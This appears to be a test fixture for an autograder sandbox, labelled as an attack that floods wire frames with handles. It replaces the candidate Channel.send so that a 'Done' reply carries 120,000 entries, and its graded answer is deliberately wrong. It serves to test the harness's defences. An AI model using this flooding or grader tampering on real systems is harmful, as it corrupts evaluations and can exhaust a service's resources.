# ---
# attack: Answers with ten times as many handles as a frame may carry.
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: objects at once
# ---
# %% before="q1"
import gc
import socket
import struct

import msgspec

from autograder.candidate.channel import Channel

head = msgspec.msgpack.encode(["done", [0, *([4, 1, "", None] for _ in range(120_000))]])


def flood(self, header, payload, *rest):
    self.sock.settimeout(None)
    if type(header).__name__ == "Done":
        self.sock.sendall(struct.pack("<IQ", len(head), 0) + head)
    else:
        reply = msgspec.msgpack.encode(header)
        self.sock.sendall(struct.pack("<IQ", len(reply), 0) + reply)


Channel.send = flood

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
